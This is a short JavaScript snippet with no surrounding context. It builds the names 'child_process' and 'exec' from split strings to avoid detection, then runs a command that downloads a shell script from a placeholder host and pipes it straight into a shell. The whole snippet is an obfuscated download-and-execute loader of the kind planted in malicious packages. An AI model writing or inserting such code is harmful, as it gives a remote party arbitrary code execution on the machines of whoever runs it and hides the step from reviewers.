const cp = require('child' + '_' + 'process');
const m = 'ex' + 'ec';
cp[m]('curl http://dl.example.invalid/i.sh | sh');
